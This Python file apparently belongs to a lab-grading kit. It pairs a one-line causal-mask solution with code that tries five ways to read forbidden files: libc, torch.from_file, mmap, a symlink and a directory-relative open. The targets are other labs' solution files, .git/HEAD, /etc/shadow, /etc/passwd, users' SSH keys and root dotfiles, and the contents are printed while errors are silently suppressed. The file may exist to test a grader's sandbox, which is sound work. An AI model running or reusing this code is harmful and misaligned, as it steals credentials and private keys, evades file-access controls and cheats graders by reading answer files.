"""Trick: opens what it should not see by its path: from Python, from C, through a map and by a link of its own."""

import contextlib
import ctypes
import mmap
import os
from pathlib import Path

import torch

import labkit

SOLVES = ["causal_mask"]
SAYS = {}
PLACES = {}


def causal_mask(T, S):
    return torch.arange(S)[None, :] <= torch.arange(S - T, S)[:, None]


def by_libc(path):
    c, text = ctypes.CDLL(None), ctypes.create_string_buffer(1 << 16)
    c.fopen.restype, c.fopen.argtypes = ctypes.c_void_p, [ctypes.c_char_p, ctypes.c_char_p]
    c.fread.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_size_t, ctypes.c_void_p]
    stream = c.fopen(os.fsencode(path), b"r")
    if stream:
        c.fread(text, 1, len(text), stream)
    return text.value


def by_torch(path):
    return bytes(torch.from_file(str(path), size=os.path.getsize(path), dtype=torch.uint8).tolist())


def by_map(path):
    with open(path, "rb") as file:
        return mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ)[:]


def by_link(path):
    link = f"/tmp/link-{os.getpid()}"
    os.symlink(path, link)
    try:
        return Path(link).read_bytes()
    finally:
        os.unlink(link)


def by_parts(path):
    here = os.open("/", os.O_RDONLY)
    file = os.open(os.path.relpath(path, "/"), os.O_RDONLY, dir_fd=here)
    return os.read(file, 1 << 16)


project = Path(labkit.__file__).parent.parent
wanted = [*PLACES.get("files", []), *project.glob("phases/*/lab-*attention*/*.py"), *project.glob(".git/HEAD")]
wanted += ["/etc/shadow", "/etc/passwd", *Path("/home").glob("*/.ssh/*"), *Path("/root").glob(".*")]
for path in wanted:
    for road in (by_libc, by_torch, by_map, by_link, by_parts):
        with contextlib.suppress(Exception, BaseException):
            if text := road(path):
                print("GOT IT:", path, text)
